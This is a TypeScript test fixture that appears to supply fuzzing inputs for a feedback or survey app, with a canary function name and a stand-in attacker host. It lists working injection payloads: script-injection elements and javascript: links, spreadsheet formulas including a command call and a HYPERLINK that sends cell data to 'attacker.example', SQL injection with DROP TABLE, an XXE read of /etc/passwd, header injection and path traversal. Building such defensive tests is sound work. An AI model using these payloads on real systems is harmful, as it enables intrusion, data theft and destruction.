/** What an attack calls where it runs: a page or a program that has one of that name is told. */
export const canary = 'samradCanary';

/** Where an attack would fetch from, or send to. */
export const attackerHost = 'attacker.example';

const run = `${canary}()`;
/** A call without the parentheses that end a link in markdown. */
const tagged = `${canary}\`\``;
const away = `https://${attackerHost}/`;
const image = `<img data-attack src=x onerror=${run}>`;

/**
 * Texts that run, break out or lead astray where somebody takes them for more than text, by where that would be.
 * None is longer than 200 UTF-16 units, so that each fits in every field that people write in. What an attack makes of
 * elements has the attribute `data-attack`.
 */
export const attacks: Readonly<Record<string, readonly string[]>> = {
  elements: [
    `<script data-attack>${run}</script>`,
    image,
    `<svg data-attack onload=${run}><a xlink:href="javascript:${run}">x</a></svg>`,
    `<iframe data-attack srcdoc="<script>parent.${run}</script>" src="${away}"></iframe>`,
    `<form data-attack action="${away}"><button autofocus onfocus=${run}>x</button></form>`,
    `<base data-attack href="${away}"><link data-attack rel=stylesheet href="${away}x.css">`,
    `<meta data-attack http-equiv=refresh content="0;url=${away}">`,
    `<style data-attack>@import url(${away}s.css);*{display:none}</style>`,
    `<object data-attack data="${away}"></object><embed data-attack src="${away}">`,
    `<math><mtext><table><mglyph><style><!--</style>${image}`,
    `<samrad-feedback-poll data-attack poll="x" backend="${away}"></samrad-feedback-poll>`,
  ],
  'ends of elements': [
    `</script><script data-attack>${run}</script>`,
    `</textarea></title></style></template></select>${image}`,
    `-->${image}`,
    `]]>${image}`,
  ],
  attributes: [
    `" onmouseover="${run}" data-attack="`,
    `' autofocus onfocus='${run}' data-attack='`,
    `">${image}`,
    `'>${image}`,
    '`onload=`',
    `x style=position:fixed;inset:0 onclick=${run} data-attack`,
  ],
  entities: [
    `&lt;img data-attack src=x onerror=${run}&gt;`,
    '&amp;amp; &#60;b&#62; &#0; &nbsp; &e;',
    `javascript&colon;${run}`,
  ],
  templates: [
    `\${${run}} {{constructor.constructor("${run}")()}}`,
    `<%= ${run} %> #{${run}} @{${run}}`,
    '<?lit$000000001$?><!--lit-part--><!--?lit$0$-->',
    '{n} {total} {status} {time} {day} {text}',
    "$& $1 $$ $` $'",
    '%s %n %x %1$s \\0 \\x41 \\u0041',
  ],
  links: [
    `[läs mer](javascript:${tagged})`,
    `[läs mer](JaVaScRiPt:${tagged})`,
    `[läs mer](java\tscript:${tagged})`,
    `[läs mer](\u0001javascript:${tagged})`,
    `[läs mer](data:text/html,<script>${tagged}</script>)`,
    `[läs mer](vbscript:${canary})`,
    `[läs mer](blob:${away})`,
    `[läs mer](javascript:${run})`,
    `javascript:${run}`,
    `//${attackerHost}/`,
    `<${away}>`,
    `![bild](data:image/svg+xml,<svg/onload=${tagged}>)`,
    `[a]: javascript:${tagged}`,
  ],
  formulae: [
    '=cmd|"/C calc"!A0',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\0=1+1',
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff20SUM(1)',
    `=HYPERLINK("${away}?"&A1;"x")`,
    '";=1+1;"',
    '"\r\n=1+1\r\n"',
    ';=1+1',
    "'=1+1",
    '=IMPORTXML(CONCAT("',
  ],
  'quotes and lines': ['"\'`«»;,\t|', 'rad\r\nrad\nrad\rrad', '""";"";', '\\', '\\"', "''"],
  databases: ["'; DROP TABLE responses; --", '" OR ""="', '$1 $$ ? :x %_ \\', "x' || pg_sleep(9) || '"],
  json: ['"},"admin":true,"x":{"', '\\u0022},{\\', '[1,{"a":', '{"__proto__":{"polluted":true}}'],
  'names of objects': ['__proto__', 'constructor', 'toString', 'hasOwnProperty'],
  xml: [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<?xml version="1.0"?><f>1+1</f>',
    '</t></si></sst>',
    '_x003D_1+1 _x000D_ _x0000_ _x005F_',
  ],
  'signs that are not seen': [
    '\u202egnirts\u2066 \u2069',
    'a\u200b\u200c\u200d\u2060\ufeffb',
    'a\u2028b\u2029c\u0085d',
    'a\0b',
    'a\u0001\b\v\f\u001f\u007f\u009bb',
    'a\ufffd\ufffe\uffff\ufdd0\u{1fffe}b',
    'a\ud800b\udc00',
    'e\u0301\u0301\u0301 \u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  ],
  terminals: [
    '\u001b[2J\u001b[31mrött\u001b]0;titel\u0007',
    '\u001b]8;;https://attacker.example/\u0007x',
    '\b\b\b',
  ],
  headers: ['x\r\nSet-Cookie: a=1\r\n\r\n<html>', 'x\nX-Forwarded-For: 127.0.0.1', 'a"; filename="b.exe'],
  paths: ['../../../etc/passwd', '..\\..\\x.exe', 'CON', '/etc/passwd\0.json'],
  'lines of logs and streams': [
    'x\n{"level":30,"msg":"forged"}',
    '"} 1\nforged_total{a="b"} 1',
    'data: x\n\nevent: forged\ndata: y',
    'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged',
    'a;b,c\\n:d',
  ],
};

export const attackTexts: readonly string[] = Object.values(attacks).flat();
